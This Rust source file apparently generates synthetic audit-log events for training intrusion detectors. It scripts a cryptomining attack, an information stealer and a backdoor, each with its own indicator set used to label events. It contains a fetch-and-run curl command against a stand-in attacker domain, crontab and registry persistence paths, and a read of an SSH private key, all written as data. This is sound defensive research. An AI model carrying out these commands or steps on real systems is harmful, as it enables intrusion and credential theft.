//! Attack templates with fixed indicator sets.
//!
//! Each template narrates one of three intrusions over the synthetic host:
//! a cloud mining attack staged through the database server, a long-term
//! information stealer that infiltrates before monitoring starts, and a
//! user-delivered backdoor. Every emitted attack event references at least
//! one IOC, which is what drives its malicious label.

use provlab_core::event::{ActionKind, EntityAttrs};

use super::benign::{BROWSER_PATH, CROND_PATH, DBSERVER_PATH, SHELL_PATH};
use super::{DayBuilder, IocSet, StepCount};

fn step(
    template: &str,
    name: &str,
    action: ActionKind,
    subject_path: Option<&str>,
    object_key: Option<String>,
    count: u64,
) -> StepCount {
    StepCount {
        template: template.into(),
        step: name.into(),
        action,
        subject_path: subject_path.map(String::from),
        object_key,
        count,
    }
}

fn scaled(base: u32, divergence: f64, span: u32) -> u32 {
    base + (divergence * span as f64).round() as u32
}

// ---------------------------------------------------------------- mining

const MINING_DROPPER: &str = "/var/lib/postgresql/.cache/sh";
const MINING_MALWARE: &str = "/usr/local/bin/postmaster";
const MINING_SCRIPT: &str = "/tmp/.xm/xmr.sh";
const MINING_PATH_OVERRIDE: &str = "/etc/profile.d/00-path.sh";
const MINING_CRONTAB: &str = "/var/spool/cron/crontabs/postgres";
const MINING_COMPETITOR: &str = "/tmp/.xm/competitor_miner";
const MINING_ATTACKER_IP: &str = "198.18.0.66";
const MINING_TOR_IPS: [&str; 3] = ["185.220.101.1", "185.220.101.2", "185.220.101.3"];
const MINING_FETCH_DOMAIN: (&str, &str) = ("t.mining-ops.example", "198.18.0.98");
const MINING_POOL_DOMAIN: (&str, &str) = ("pool.mining-ops.example", "198.18.0.99");

pub(crate) fn mining_iocs(iocs: &mut IocSet) {
    iocs.process_paths.insert(MINING_DROPPER.into());
    iocs.process_paths.insert(MINING_MALWARE.into());
    for f in [
        MINING_SCRIPT,
        MINING_MALWARE,
        MINING_PATH_OVERRIDE,
        MINING_CRONTAB,
        MINING_COMPETITOR,
    ] {
        iocs.file_paths.insert(f.into());
    }
    for j in 0..8 {
        iocs.file_paths.insert(format!("/tmp/.xm/scratch_{j}"));
    }
    iocs.domains.insert(MINING_FETCH_DOMAIN.0.into());
    iocs.domains.insert(MINING_POOL_DOMAIN.0.into());
    iocs.ips.insert(MINING_ATTACKER_IP.into());
    iocs.ips.insert(MINING_FETCH_DOMAIN.1.into());
    iocs.ips.insert(MINING_POOL_DOMAIN.1.into());
    for ip in MINING_TOR_IPS {
        iocs.ips.insert(ip.into());
    }
}

fn attack_net(
    day: &mut DayBuilder,
    domain: Option<&str>,
    dst_ip: &str,
    dst_port: u16,
) -> EntityAttrs {
    use rand::Rng;
    let port = day.rng.random_range(20_000..60_000);
    let attrs = EntityAttrs::network("10.0.2.15", port, dst_ip, dst_port);
    match domain {
        Some(d) => attrs.with_domain(d),
        None => attrs,
    }
}

/// Mining intrusion over the database server: weak-password access, Tor
/// download, disguise as a postmaster binary, crontab persistence, and
/// repeated pool-connected executions. `divergence` widens the miner's
/// network/file fan-out; the intrusion stages run on the first test day
/// only while the cron executions recur daily.
pub(crate) fn mining_template(day: &mut DayBuilder, divergence: f64, first_day: bool) {
    let t = "mining";
    let postgres = EntityAttrs::process(day.fresh_pid(), DBSERVER_PATH);

    if first_day {
        for _ in 0..3 {
            let peer = attack_net(day, None, MINING_ATTACKER_IP, 5432);
            day.emit(postgres.clone(), ActionKind::Recv, peer);
        }
        day.record_step(step(
            t,
            "intrusion_recv",
            ActionKind::Recv,
            Some(DBSERVER_PATH),
            Some(format!("network:{MINING_ATTACKER_IP}")),
            3,
        ));

        let fetch_cmd = day.encode_cmdline(&format!(
            "curl http://{}/xmr.sh -o {MINING_SCRIPT} && sh {MINING_SCRIPT}",
            MINING_FETCH_DOMAIN.0
        ));
        let dropper = EntityAttrs::process(day.fresh_pid(), MINING_DROPPER).with_cmdline(fetch_cmd);
        day.emit(postgres.clone(), ActionKind::Exec, dropper.clone());
        day.record_step(step(
            t,
            "spawn_dropper",
            ActionKind::Exec,
            Some(DBSERVER_PATH),
            Some(format!("process:{MINING_DROPPER}")),
            1,
        ));

        let tor_connects = scaled(2, divergence, 4) as u64;
        for c in 0..tor_connects {
            let ip = MINING_TOR_IPS[c as usize % MINING_TOR_IPS.len()];
            let peer = attack_net(day, None, ip, 9001);
            day.emit(dropper.clone(), ActionKind::Connect, peer);
        }
        day.record_step(step(
            t,
            "download_via_tor",
            ActionKind::Connect,
            Some(MINING_DROPPER),
            None,
            tor_connects,
        ));

        day.emit(
            dropper.clone(),
            ActionKind::Write,
            EntityAttrs::file(MINING_SCRIPT),
        );
        day.emit(
            dropper.clone(),
            ActionKind::Write,
            EntityAttrs::file(MINING_MALWARE),
        );
        day.record_step(step(
            t,
            "disguise_as_postmaster",
            ActionKind::Write,
            Some(MINING_DROPPER),
            Some(format!("file:{MINING_MALWARE}")),
            1,
        ));
        day.emit(
            dropper.clone(),
            ActionKind::Write,
            EntityAttrs::file(MINING_PATH_OVERRIDE),
        );
        day.emit(
            dropper.clone(),
            ActionKind::Write,
            EntityAttrs::file(MINING_CRONTAB),
        );
        day.record_step(step(
            t,
            "persistence_crontab",
            ActionKind::Write,
            Some(MINING_DROPPER),
            Some(format!("file:{MINING_CRONTAB}")),
            1,
        ));
    }

    // Periodic executions. Divergence interpolates the miner's behavior
    // between mimicking the trained updater traffic (stealthy, hard to
    // separate structurally) and wide attack-specific fan-out.
    let crond = EntityAttrs::process(day.fresh_pid(), CROND_PATH);
    let runs = scaled(4, divergence, 4) as u64;
    let mimic_ops = scaled(2, 1.0 - divergence, 8);
    let distinct_ops = scaled(0, divergence, 16);
    let mut tally = MinerTally::default();
    for run in 0..runs {
        let exec_cmd = day.encode_cmdline(&format!(
            "TMPDIR=/tmp/.xm exec {MINING_MALWARE} --daemon --batch {run}"
        ));
        let miner = EntityAttrs::process(day.fresh_pid(), MINING_MALWARE).with_cmdline(exec_cmd);
        day.emit(crond.clone(), ActionKind::Exec, miner.clone());
        for op in 0..mimic_ops {
            emit_updater_mimic(day, &miner, op, &mut tally);
        }
        for op in 0..distinct_ops {
            emit_miner_distinct(day, &miner, op, &mut tally);
        }
        // Self-replication: the malware rewrites its own binary path.
        day.emit(
            miner.clone(),
            ActionKind::Write,
            EntityAttrs::file(MINING_MALWARE),
        );
        tally.writes += 1;
    }
    day.record_step(step(
        t,
        "cron_executes_miner",
        ActionKind::Exec,
        Some(CROND_PATH),
        Some(format!("process:{MINING_MALWARE}")),
        runs,
    ));
    day.record_step(step(
        t,
        "cleanup_competitor",
        ActionKind::Delete,
        Some(MINING_MALWARE),
        Some(format!("file:{MINING_COMPETITOR}")),
        tally.deletes,
    ));
    day.record_step(step(
        t,
        "pool_connects",
        ActionKind::Connect,
        Some(MINING_MALWARE),
        Some(format!("network:{}", MINING_POOL_DOMAIN.1)),
        tally.pool_connects,
    ));
    day.record_step(step(
        t,
        "miner_file_writes",
        ActionKind::Write,
        Some(MINING_MALWARE),
        None,
        tally.writes,
    ));
    day.record_step(step(
        t,
        "self_replicate",
        ActionKind::Write,
        Some(MINING_MALWARE),
        Some(format!("file:{MINING_MALWARE}")),
        runs,
    ));
}

#[derive(Default)]
struct MinerTally {
    deletes: u64,
    pool_connects: u64,
    writes: u64,
}

/// Stealth side: rounds that replay the trained updater's traffic shape
/// (its config file, cache pool, and update mirror).
fn emit_updater_mimic(day: &mut DayBuilder, miner: &EntityAttrs, op: u32, tally: &mut MinerTally) {
    match op % 4 {
        0 => day.emit(
            miner.clone(),
            ActionKind::Read,
            EntityAttrs::file("/etc/pkg-updated.conf"),
        ),
        1 => {
            day.emit(
                miner.clone(),
                ActionKind::Write,
                EntityAttrs::file(format!("/var/cache/pkg/pkg_{}.pkg", op % 8)),
            );
            tally.writes += 1;
        }
        2 => {
            let peer = attack_net(day, Some("update.pkg-mirror.example"), "192.0.2.10", 443);
            day.emit(miner.clone(), ActionKind::Connect, peer);
        }
        _ => {
            let peer = attack_net(day, Some("update.pkg-mirror.example"), "192.0.2.10", 443);
            day.emit(miner.clone(), ActionKind::Send, peer);
        }
    }
}

/// Distinct side: pool traffic, scratch churn, and competitor cleanup that
/// no benign archetype performs.
fn emit_miner_distinct(day: &mut DayBuilder, miner: &EntityAttrs, op: u32, tally: &mut MinerTally) {
    match op % 4 {
        0 => {
            let peer = attack_net(day, Some(MINING_POOL_DOMAIN.0), MINING_POOL_DOMAIN.1, 3333);
            day.emit(miner.clone(), ActionKind::Connect, peer);
            tally.pool_connects += 1;
        }
        1 => {
            let peer = attack_net(day, Some(MINING_POOL_DOMAIN.0), MINING_POOL_DOMAIN.1, 3333);
            day.emit(miner.clone(), ActionKind::Send, peer);
        }
        2 => {
            day.emit(
                miner.clone(),
                ActionKind::Write,
                EntityAttrs::file(format!("/tmp/.xm/scratch_{}", op % 8)),
            );
            tally.writes += 1;
        }
        _ => {
            day.emit(
                miner.clone(),
                ActionKind::Delete,
                EntityAttrs::file(MINING_COMPETITOR),
            );
            tally.deletes += 1;
        }
    }
}

// --------------------------------------------------------- info stealing

const STEALER_BINARY: &str = "C:\\Windows\\System\\@search\\Search.exe";
const STEALER_INSTALLER: &str = "C:\\Users\\victim\\Downloads\\codec_pack.exe";
const STEALER_EXFIL_DOMAIN: (&str, &str) = ("sync.metrics-collect.example", "198.18.1.50");
const EXPLORER_PATH: &str = "C:\\Windows\\explorer.exe";

fn stealer_dll(j: usize) -> String {
    format!("C:\\Windows\\System\\@search\\mod{j}.dll")
}

pub(crate) fn info_stealing_iocs(iocs: &mut IocSet) {
    iocs.process_paths.insert(STEALER_BINARY.into());
    iocs.process_paths.insert(STEALER_INSTALLER.into());
    iocs.file_paths.insert(STEALER_BINARY.into());
    iocs.file_paths.insert(STEALER_INSTALLER.into());
    for j in 0..4 {
        iocs.file_paths.insert(stealer_dll(j));
    }
    iocs.domains.insert(STEALER_EXFIL_DOMAIN.0.into());
    iocs.ips.insert(STEALER_EXFIL_DOMAIN.1.into());
}

/// Long-term information stealer. With `training_phase` the installation
/// chain runs too (the infiltration predates monitoring); the caller puts
/// the builder into covert mode so those events export label-stripped.
pub(crate) fn info_stealing_template(day: &mut DayBuilder, training_phase: bool) {
    let t = "info_stealing";
    if training_phase {
        let explorer = EntityAttrs::process(day.fresh_pid(), EXPLORER_PATH);
        let installer = EntityAttrs::process(day.fresh_pid(), STEALER_INSTALLER);
        day.emit(explorer, ActionKind::Exec, installer.clone());
        day.emit(
            installer.clone(),
            ActionKind::Write,
            EntityAttrs::file(STEALER_BINARY),
        );
        for j in 0..4 {
            day.emit(
                installer.clone(),
                ActionKind::Write,
                EntityAttrs::file(stealer_dll(j)),
            );
        }
        day.record_step(step(
            t,
            "install_tools",
            ActionKind::Write,
            Some(STEALER_INSTALLER),
            None,
            5,
        ));
    }

    let stealer = EntityAttrs::process(day.fresh_pid(), STEALER_BINARY);
    for j in 0..4 {
        day.emit(
            stealer.clone(),
            ActionKind::Load,
            EntityAttrs::file(stealer_dll(j)),
        );
    }
    day.record_step(step(
        t,
        "load_dlls",
        ActionKind::Load,
        Some(STEALER_BINARY),
        None,
        4,
    ));
    for j in 0..3 {
        day.emit(
            stealer.clone(),
            ActionKind::Read,
            EntityAttrs::file(format!("C:\\Users\\victim\\Documents\\doc_{j}.docx")),
        );
    }
    for _ in 0..2 {
        let peer = attack_net(
            day,
            Some(STEALER_EXFIL_DOMAIN.0),
            STEALER_EXFIL_DOMAIN.1,
            443,
        );
        day.emit(stealer.clone(), ActionKind::Connect, peer);
    }
    day.record_step(step(
        t,
        "exfil_connect",
        ActionKind::Connect,
        Some(STEALER_BINARY),
        Some(format!("network:{}", STEALER_EXFIL_DOMAIN.1)),
        2,
    ));
    for _ in 0..6 {
        let peer = attack_net(
            day,
            Some(STEALER_EXFIL_DOMAIN.0),
            STEALER_EXFIL_DOMAIN.1,
            443,
        );
        day.emit(stealer.clone(), ActionKind::Send, peer);
    }
    // Replicates itself for persistent concealment: a file write whose path
    // is the attack binary path.
    day.emit(
        stealer.clone(),
        ActionKind::Write,
        EntityAttrs::file(STEALER_BINARY),
    );
    day.record_step(step(
        t,
        "self_replicate",
        ActionKind::Write,
        Some(STEALER_BINARY),
        Some(format!("file:{STEALER_BINARY}")),
        1,
    ));
}

// --------------------------------------------------------------- backdoor

const BACKDOOR_BINARY: &str = "/home/user/Downloads/invoice_viewer";
const BACKDOOR_RUN_KEY: &str = "HKCU/Software/Microsoft/Windows/CurrentVersion/Run/invoice_viewer";
const BACKDOOR_C2: (&str, &str) = ("c2.invoice-track.example", "198.18.2.10");

pub(crate) fn backdoor_iocs(iocs: &mut IocSet) {
    iocs.process_paths.insert(BACKDOOR_BINARY.into());
    iocs.file_paths.insert(BACKDOOR_BINARY.into());
    for j in 0..4 {
        iocs.file_paths
            .insert(format!("/home/user/.cache/.inv_loot_{j}"));
    }
    iocs.registry_paths.insert(BACKDOOR_RUN_KEY.into());
    iocs.domains.insert(BACKDOOR_C2.0.into());
    iocs.ips.insert(BACKDOOR_C2.1.into());
}

/// User-delivered backdoor: browser download, execution, C2 traffic,
/// registry run-key persistence, and credential reads.
pub(crate) fn backdoor_template(day: &mut DayBuilder, divergence: f64) {
    let t = "backdoor";
    let browser = EntityAttrs::process(day.fresh_pid(), BROWSER_PATH);
    day.emit(
        browser,
        ActionKind::Write,
        EntityAttrs::file(BACKDOOR_BINARY),
    );

    let shell = EntityAttrs::process(day.fresh_pid(), SHELL_PATH);
    let malware = EntityAttrs::process(day.fresh_pid(), BACKDOOR_BINARY);
    day.emit(shell, ActionKind::Exec, malware.clone());
    day.record_step(step(
        t,
        "user_executes_payload",
        ActionKind::Exec,
        Some(SHELL_PATH),
        Some(format!("process:{BACKDOOR_BINARY}")),
        1,
    ));

    // Mimic rounds replay the trained browser's traffic; distinct rounds
    // carry the C2 and loot activity.
    let mimic_ops = scaled(1, 1.0 - divergence, 8);
    for op in 0..mimic_ops {
        match op % 3 {
            0 => {
                let site = ("news.site0.example", "192.0.2.20");
                let peer = attack_net(day, Some(site.0), site.1, 443);
                day.emit(malware.clone(), ActionKind::Connect, peer);
            }
            1 => day.emit(
                malware.clone(),
                ActionKind::Write,
                EntityAttrs::file(format!("/home/user/.cache/browser/c{}.dat", op % 12)),
            ),
            _ => day.emit(
                malware.clone(),
                ActionKind::Read,
                EntityAttrs::file("/home/user/.config/browser/prefs.js"),
            ),
        }
    }
    let mut c2_sends = 0u64;
    let distinct_ops = scaled(3, divergence, 12);
    for op in 0..distinct_ops {
        match op % 3 {
            0 => {
                let peer = attack_net(day, Some(BACKDOOR_C2.0), BACKDOOR_C2.1, 443);
                day.emit(malware.clone(), ActionKind::Connect, peer);
            }
            1 => {
                let peer = attack_net(day, Some(BACKDOOR_C2.0), BACKDOOR_C2.1, 443);
                day.emit(malware.clone(), ActionKind::Send, peer);
                c2_sends += 1;
            }
            _ => day.emit(
                malware.clone(),
                ActionKind::Write,
                EntityAttrs::file(format!("/home/user/.cache/.inv_loot_{}", op % 4)),
            ),
        }
    }
    day.emit(
        malware.clone(),
        ActionKind::ModifyRegistry,
        EntityAttrs::registry_key(BACKDOOR_RUN_KEY),
    );
    day.record_step(step(
        t,
        "registry_persistence",
        ActionKind::ModifyRegistry,
        Some(BACKDOOR_BINARY),
        Some(format!("registry_key:{BACKDOOR_RUN_KEY}")),
        1,
    ));
    day.emit(
        malware.clone(),
        ActionKind::Read,
        EntityAttrs::file("/home/user/.ssh/id_rsa"),
    );
    day.emit(
        malware.clone(),
        ActionKind::Write,
        EntityAttrs::file(BACKDOOR_BINARY),
    );
    day.record_step(step(
        t,
        "c2_traffic",
        ActionKind::Send,
        Some(BACKDOOR_BINARY),
        Some(format!("network:{}", BACKDOOR_C2.1)),
        c2_sends,
    ));
}
